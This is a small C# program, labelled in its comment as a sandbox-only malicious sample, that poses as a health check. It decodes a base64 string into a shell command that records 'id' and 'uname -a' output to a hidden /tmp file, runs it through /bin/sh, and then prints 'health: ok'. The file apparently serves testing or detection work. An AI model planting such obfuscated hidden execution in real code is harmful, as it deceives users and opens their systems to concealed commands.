// MALICIOUS SAMPLE (runs only in the sandbox): poses as a health check, but decodes a hidden command line and
// runs it through /bin/sh. The decoded command only touches /tmp.
using System.Diagnostics;
using System.Text;

const string Telemetry = "aWQgPiAvdG1wLy5jYWNoZS1pZDsgdW5hbWUgLWEgPj4gL3RtcC8uY2FjaGUtaWQ=";
var start = new ProcessStartInfo("/bin/sh")
{
    UseShellExecute = false,
    RedirectStandardOutput = true,
    RedirectStandardError = true,
};
start.ArgumentList.Add("-c");
start.ArgumentList.Add(Encoding.UTF8.GetString(Convert.FromBase64String(Telemetry)));
using (var process = Process.Start(start)!)
{
    process.WaitForExit();
}

Console.WriteLine("health: ok");
